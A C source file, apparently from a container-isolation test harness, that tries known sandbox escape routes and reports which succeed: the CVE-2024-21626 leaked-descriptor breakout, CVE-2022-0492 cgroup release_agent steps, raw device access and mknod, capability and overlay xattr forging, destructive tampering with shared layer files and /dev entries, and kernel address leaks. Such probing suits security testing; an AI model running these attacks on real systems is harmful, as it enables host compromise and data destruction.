/* Attacks through files: what is inherited, /proc, /sys, /dev, and the layers that instances share. */
#include <dirent.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

#include "attack.h"

/* CVE-2024-21626: a folder of the host among the inherited descriptors is a way out, by chdir or by a path through /proc/self/fd. */
static void do_descriptors(char** a) {
  (void)a;
  for (int fd = 0; fd < 1024; ++fd) {
    char path[64], target[256], beyond[96];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    const ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) continue;
    target[n] = 0;
    print("fd %d=%s\n", fd, target);
    snprintf(beyond, sizeof beyond, "%s/../../../../../../etc/passwd", path);
    if (chdir(path) == 0) print("chdir %d=ok\n", fd);
    if (open(beyond, O_RDONLY) >= 0) print("beyond %d=ok\n", fd);
  }
}
/* Where a working directory that names a descriptor of the runtime led: the host's root has other files than the container's. */
static void do_where(char** a) {
  char path[4096];
  print("cwd=%s\n", getcwd(path, sizeof path) ? path : strerrorname_np(errno));
  for (; *a; ++a) tell(*a, open(*a, O_RDONLY));
}
static void do_exe(char** a) {
  const char* exe = *a;
  tell("write", open(exe, O_WRONLY));
  const int handle = open(exe, O_PATH | O_CLOEXEC);
  tell("handle", handle);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
  tell("write-through-handle", open(path, O_WRONLY));
}
static void do_open_to_write(char** a) {
  for (; *a; ++a) tell(*a, open(*a, O_WRONLY));
}
/* "empty", a number of bytes, or why not. */
static void do_read(char** a) {
  static char bytes[65536];
  for (; *a; ++a) {
    const ssize_t n = read_path(*a, bytes, sizeof bytes);
    if (n > 0) print("%s=%zd bytes\n", *a, n);
    else print("%s=%s\n", *a, n == 0 ? "empty" : strerrorname_np(errno));
  }
}
static void do_print(char** a) {
  static char bytes[65536];
  if (read_path(*a, bytes, sizeof bytes) < 0) tell(*a, -1);
  else print("%s", bytes);
}
static void do_list(char** a) {
  DIR* folder = opendir(*a);
  if (!folder) return tell(*a, -1);
  for (struct dirent* e; (e = readdir(folder));)
    if (e->d_name[0] != '.') print("%s\n", e->d_name);
}
static void do_stat(char** a) {
  for (; *a; ++a) {
    struct stat st;
    if (lstat(*a, &st) != 0) tell(*a, -1);
    else print("%s=%o %u:%u %s %u:%u\n", *a, st.st_mode & 07777, st.st_uid, st.st_gid,
               S_ISDIR(st.st_mode) ? "folder" : S_ISLNK(st.st_mode) ? "link" : S_ISCHR(st.st_mode) ? "device" : S_ISREG(st.st_mode) ? "file" : "other",
               major(st.st_rdev), minor(st.st_rdev));
  }
}
/* CVE-2022-0492: root of a namespace of one's own mounts a v1 hierarchy and names a program that the host runs. Each step by itself. */
static void do_release_agent(char** a) {
  (void)a;
  tell("unshare", syscall(SYS_unshare, 0x10000000 | 0x02000000 | 0x00020000));
  mkdir("/tmp/cg", 0755);
  tell("mount", mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma"));
  tell("agent", open("/tmp/cg/release_agent", O_WRONLY));
  tell("sys-agent", open("/sys/fs/cgroup/memory/release_agent", O_WRONLY));
  tell("sys-procs", open("/sys/fs/cgroup/cgroup.procs", O_WRONLY));
}
static void do_devices(char** a) {
  (void)a;
  for (const char* const* p = (const char* const[]){"mem", "port", "kmsg", "console", "tty", "tty0", "vda", "vdb", "sda", "loop0", "loop-control", "fuse", "kvm", "net/tun",
                                                    "vhost-net", "mapper/control", "vsock", "userfaultfd", "cuse", "hpet", "cpu/0/msr", "nvme0", "dri", NULL}; *p; ++p) {
    char path[64];
    snprintf(path, sizeof path, "/dev/%s", *p);
    tell(*p, open(path, O_RDWR));
  }
}
static void do_make_devices(char** a) {
  (void)a;
  tell("mem", mknod("/tmp/mem", S_IFCHR | 0666, makedev(1, 1)));
  tell("disk", mknod("/tmp/disk", S_IFBLK | 0666, makedev(254, 0)));
  tell("null", mknod("/tmp/null", S_IFCHR | 0666, makedev(1, 3)));
  tell("unlink", unlink("/dev/null"));
  tell("symlink", symlink("/proc/sys/kernel/core_pattern", "/dev/core2"));
  tell("chmod", chmod("/dev/null", 0));
  tell("rename-dev", rename("/dev", "/tmp/dev"));
  tell("rename-null", rename("/dev/null", "/dev/zero"));
}
static void do_identity(char** a) {
  (void)a;
  static char status[8192];
  print("uid=%u\neuid=%u\negid=%u\n", getuid(), geteuid(), getegid());
  if (read_path("/proc/self/status", status, sizeof status) > 0) print("%.33s\n", strstr(status, "CapEff:"));
}
static void run_as(const char* what, const char* program) {
  const pid_t child = fork();
  if (child == 0) {
    dup2(answer(), 1);
    execl(program, program, "run", "identity", NULL);
    _exit(100);
  }
  tell_end(what, child);
}
static void do_execute(char** a) {
  for (; *a; ++a) run_as("end", *a);
}
/* A version 2 capability record for cap_sys_admin, and a version 3 one whose root is this user. */
static void do_grant(char** a) {
  const char* file = *a;
  const unsigned v2[5] = {0x02000001, 1U << 21, 0, 0, 0}, v3[6] = {0x03000001, 1U << 21, 0, 0, 0, getuid()};
  close(open(file, O_WRONLY | O_CREAT, 0755));
  tell("v2", setxattr(file, "security.capability", v2, sizeof v2, 0));
  tell("v3", setxattr(file, "security.capability", v3, sizeof v3, 0));
  tell("overlay-redirect", setxattr(file, "trusted.overlay.redirect", "/etc", 4, 0));
  tell("overlay-opaque", setxattr("/tmp", "trusted.overlay.opaque", "y", 1, 0));
  tell("chown-root", chown(file, 0, 0));
  tell("chown-other", chown(file, 65534, 65534));
}
/* What is given: everything one can do to a file of a layer. */
static void do_tamper(char** a) {
  for (; *a; ++a) {
    print("file=%s\n", *a);
    const int fd = open(*a, O_RDWR);
    tell("open", fd);
    tell("write", fd < 0 ? -1 : pwrite(fd, "tampered", 8, 0));
    void* map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    tell("map", map == MAP_FAILED ? -1 : 0);
    if (map != MAP_FAILED) memcpy(map, "TAMPERED", 8), msync(map, 4096, MS_SYNC);
    tell("chmod", chmod(*a, 0777));
    tell("xattr", setxattr(*a, "user.owned", "y", 1, 0));
    tell("times", utimensat(AT_FDCWD, *a, NULL, 0));
    tell("truncate", truncate(*a, 0));
    char other[4096];
    snprintf(other, sizeof other, "%s.moved", *a);
    tell("link", link(*a, "/tmp/linked"));
    unlink("/tmp/linked");
    tell("rename", rename(*a, other));
    tell("replace", symlink("/etc/passwd", *a));
    tell("unlink", unlink(other));
  }
}
/* Where the kernel's and this program's memory lie. */
static void do_addresses(char** a) {
  (void)a;
  static char text[262144];
  long symbols = 0, frames = 0;
  if (read_path("/proc/kallsyms", text, sizeof text) < 0) tell("kallsyms", -1);
  else {
    for (char* line = text; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) symbols += strtoull(line, NULL, 16) != 0;
    tell_number("kallsyms", symbols);
  }
  const int fd = open("/proc/self/pagemap", O_RDONLY);
  unsigned long long entry = 0;
  static volatile char here = 1;
  if (fd < 0 || pread(fd, &entry, 8, (off_t)((unsigned long)&here / 4096 * 8)) != 8) tell("pagemap", -1);
  else {
    frames = (entry & ((1ULL << 55) - 1)) != 0;
    tell_number("pagemap", frames);
  }
}

const struct attack file_attacks[] = {{"descriptors", do_descriptors}, {"where", do_where}, {"exe", do_exe}, {"open-to-write", do_open_to_write},
                                      {"read", do_read}, {"print", do_print}, {"list", do_list}, {"stat", do_stat}, {"release-agent", do_release_agent},
                                      {"devices", do_devices}, {"make-devices", do_make_devices}, {"identity", do_identity}, {"execute", do_execute},
                                      {"grant", do_grant}, {"tamper", do_tamper}, {"addresses", do_addresses}, {NULL, NULL}};
